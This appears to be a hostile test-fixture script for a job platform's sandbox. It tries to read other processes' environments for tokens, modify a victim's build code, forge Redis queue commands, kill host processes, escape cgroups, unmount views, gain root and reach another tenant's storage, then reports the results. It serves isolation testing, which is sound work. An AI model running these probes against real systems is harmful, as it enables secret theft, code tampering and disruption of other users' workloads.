"""A hostile SOURCE_FILES actor (stdlib only): it tries every way out of its sandbox that the issue
saw work, and reports what each attempt gave as its OUTPUT. Its INPUT names the targets the test
knows: the data directory, the victim's build directory, host pids, Redis and the database."""

import ctypes
import json
import os
import signal
import socket
import subprocess
import sys
import time
import urllib.request
from pathlib import Path

BASE = os.environ["APIFY_API_BASE_URL"]
TOKEN = os.environ["APIFY_TOKEN"]
STORE = os.environ["ACTOR_DEFAULT_KEY_VALUE_STORE_ID"]
HEADERS = {"Authorization": "Bearer " + TOKEN}


def api(path, data=None, method="GET"):
    request = urllib.request.Request(BASE + "/v2" + path, data=data, method=method, headers=HEADERS)
    try:
        with urllib.request.urlopen(request) as response:
            return response.status, response.read()
    except urllib.error.HTTPError as exc:
        return exc.code, exc.read()


def attempt(action):
    try:
        result = action()
        return "ok" if result is None else "ok: " + str(result)[:300]
    except BaseException as exc:  # every failure is a result here
        return f"error: {type(exc).__name__}: {exc}"[:300]


def read(path):
    with open(path, "rb") as handle:
        return handle.read(200)


def append(path):
    with open(path, "a") as handle:
        handle.write("\nprint('pwned')\n")


def connect(address):
    family = socket.AF_UNIX if isinstance(address, str) else socket.AF_INET
    with socket.socket(family, socket.SOCK_STREAM) as sock:
        sock.settimeout(3)
        sock.connect(address if isinstance(address, str) else tuple(address))
        if address and not isinstance(address, str) and address[1] != 5432:
            # Redis: a forged abort and a forged job, if it answers at all.
            sock.sendall(b"PUBLISH abort x\r\nRPUSH rq:queue:x y\r\n")
            return sock.recv(100)
    return None


status, raw = api(f"/key-value-stores/{STORE}/records/INPUT")
target = json.loads(raw)
report = {}
status_text = Path("/proc/self/status").read_text()
fields = dict(line.split(":\t", 1) for line in status_text.splitlines() if ":\t" in line)
report["cwd"] = os.getcwd()
report["uid"] = os.getuid()
report["gid"] = os.getgid()
report["groups"] = os.getgroups()
report["cap_eff"] = fields["CapEff"].strip()
report["cap_bnd"] = fields["CapBnd"].strip()
report["no_new_privs"] = fields["NoNewPrivs"].strip()
report["visible_pids"] = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())

# Other processes' environments: the worker's GREENROOM_* configuration, the victim's token.
leaks = {}
for pid in report["visible_pids"] + list(target["host_pids"]):
    if pid == os.getpid():
        continue
    try:
        environ = Path(f"/proc/{pid}/environ").read_bytes().decode(errors="replace")
    except OSError:
        continue
    if "GREENROOM_" in environ or target["secret_name"] in environ or TOKEN not in environ:
        leaks[str(pid)] = environ[:200]
report["environ_leaks"] = leaks

data_dir = target["data_dir"]
report["read"] = {
    path: attempt(lambda path=path: read(path))
    for path in (*target["files"], os.path.join(os.getcwd(), "../../..", "admin-token"))
}
report["list"] = {
    path: attempt(lambda path=path: os.listdir(path))
    for path in (data_dir, os.path.dirname(target["victim_build"]), os.path.join(os.getcwd(), "../../.."))
}
report["write"] = {
    "victim_build": attempt(lambda: append(os.path.join(target["victim_build"], "app", "main.py"))),
    "own_build": attempt(lambda: append(os.path.join(os.getcwd(), "main.py"))),
    "home": attempt(lambda: append(os.path.join(os.environ["HOME"], "note.txt"))),
    "tmp": attempt(lambda: append("/tmp/note.txt")),
}
report["redis"] = {str(a): attempt(lambda a=a: connect(a)) for a in target["redis"]}
report["database"] = {str(a): attempt(lambda a=a: connect(a)) for a in target["database"]}
# SIGKILL: only the pids the test names (never "every pid it can see": unsandboxed, that is the host).
report["kill"] = {str(pid): attempt(lambda pid=pid: os.kill(pid, signal.SIGKILL)) for pid in target["kill"]}
report["cgroup"] = Path("/proc/self/cgroup").read_text()
report["cgroup_escape"] = {
    path: attempt(lambda path=path: os.write(os.open(path, os.O_WRONLY), str(os.getpid()).encode()))
    for path in (
        "/sys/fs/cgroup/memory/cgroup.procs",
        "/sys/fs/cgroup/pids/cgroup.procs",
        "/sys/fs/cgroup/unified/cgroup.procs",
    )
}
libc = ctypes.CDLL(None, use_errno=True)


def mount():
    # Onto a directory of its own, undone at once: unsandboxed (the control test), it succeeds.
    point = os.path.join(os.environ.get("TMPDIR") or "/tmp", f"mnt-{os.getpid()}")
    os.makedirs(point, exist_ok=True)
    try:
        if libc.mount(b"none", point.encode(), b"tmpfs", 0, None) != 0:
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
        libc.umount2(point.encode(), 2)  # MNT_DETACH
    finally:
        os.rmdir(point)


def umount(path):
    if libc.umount2(path.encode(), 2) != 0:  # MNT_DETACH
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


report["mount"] = attempt(mount)
# Its build, and the builds directory around it (a premade sandbox's view, worker/sandbox/views.py):
# unmounted, the directory under them would show.
report["umount"] = {
    path: attempt(lambda path=path: umount(path))
    for path in (os.path.dirname(os.getcwd()), os.path.dirname(target["victim_build"]))
}
report["mountinfo"] = Path("/proc/self/mountinfo").read_text()
# What it holds open: no pipe of its sandbox's making (a premade sandbox's order) but its output.
report["fds"] = {
    fd: attempt(lambda fd=fd: os.readlink(f"/proc/self/fd/{fd}")) for fd in os.listdir("/proc/self/fd")
}
report["setuid0"] = attempt(lambda: os.setuid(0))
# A daemon that leaves the session and the process group, and outlives the run if it can.
daemon = [sys.executable, "-c", "import time; time.sleep(120)", os.environ["ACTOR_RUN_ID"]]
report["daemon"] = attempt(lambda: subprocess.Popen(daemon, start_new_session=True).pid)
# The run's token against the victim's storage (the API's wall).
report["victim_record"] = api(f"/key-value-stores/{target['victim_store']}/records/OUTPUT")[0]

body = json.dumps(report).encode()
api(f"/key-value-stores/{STORE}/records/OUTPUT", body, "PUT")
time.sleep(0.2)
